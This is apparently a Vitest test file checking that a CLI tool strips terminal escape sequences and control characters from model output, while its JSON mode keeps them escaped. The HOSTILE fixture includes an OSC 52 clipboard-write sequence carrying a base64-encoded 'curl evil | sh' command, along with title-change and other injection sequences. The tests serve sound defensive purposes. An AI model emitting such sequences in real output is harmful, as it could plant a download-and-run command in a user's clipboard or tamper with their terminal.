import { describe, expect, it } from 'vitest'
import { forTerminal } from '../../src/terminal-text.js'
import { onlyTask, runSetup } from './harness.js'

const OSC52 = '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07'
const TITLE = '\x1b]0;pwned\x1b\\'
const HOSTILE = `Fixed.${OSC52}${TITLE}\x1b[2J\x1b[31mred\x1b[0m\r\x08 done\x9d8;;http://x\x9c\x1bP1;2|x\x1b\\`

describe('terminal escape sequences', () => {
  it('forTerminal keeps text, line breaks and tabs, and removes every ESC sequence and control character', () => {
    expect(forTerminal('plain\ttext\nnext')).toBe('plain\ttext\nnext')
    expect(forTerminal(HOSTILE)).toBe('Fixed.red done')
    expect(forTerminal('unterminated \x1b]0;title')).toBe('unterminated ')
    expect(forTerminal('ü → 日本 \u2028')).toBe('ü → 日本 \u2028')
  })

  it('run and view strip them from a model’s answer on a pipe; --json keeps them escaped', async () => {
    const s = await runSetup()
    s.fake.queue.push({ content: HOSTILE })
    const res = await s.run(['run', '--task', 't', '--workspace', s.ws])
    expect(res.code, res.stderr).toBe(0)
    expect(res.stdout).toContain('Fixed.red done')
    expect(res.stdout + res.stderr).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/)
    const uuid = onlyTask(s.tree).uuid
    for (const args of [
      ['view', uuid],
      ['view', uuid, '--messages', '--full'],
      ['view', uuid, '--current'],
    ]) {
      const view = await s.run(args)
      expect(view.code, view.stderr).toBe(0)
      expect(view.stdout, args.join(' ')).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/)
    }
    expect((await s.run(['view', uuid, '--messages', '--full'])).stdout).toContain('Fixed.red done')
    const json = await s.run(['view', uuid, '--messages', '--json'])
    expect(json.stdout).toContain('\\u001b]52;c;')
    expect(json.stdout).not.toContain('\x1b')
  })
})
